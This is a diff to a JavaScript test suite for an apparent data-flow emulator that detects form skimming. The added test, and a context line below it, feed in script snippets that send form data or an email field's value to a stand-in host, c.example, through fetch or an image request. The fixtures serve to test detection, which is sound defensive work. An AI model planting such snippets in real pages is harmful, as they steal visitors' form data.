@@ -15,6 +15,19 @@ describe('emulator: forms and fields that are not of the card', () => {
     );
   });
 
+  it('puts none into a form in a box that is for something else', async () => {
+    const flows = await flowsOf(`
+      document.querySelectorAll('.newsletter form').forEach(function (f) {
+        f.addEventListener('submit', function (event) {
+          fetch('https://c.example/', { method: 'POST', body: new FormData(f) });
+        });
+      });`);
+    assert.deepEqual(
+      flows.filter(({ field }) => field.startsWith('card') || field === 'password'),
+      [],
+    );
+  });
+
   it('tells an address from the name of who has it', async () => {
     const flows = await flowsOf(
       "new Image().src = 'https://c.example/?' + document.querySelector('input[type=email]').value",
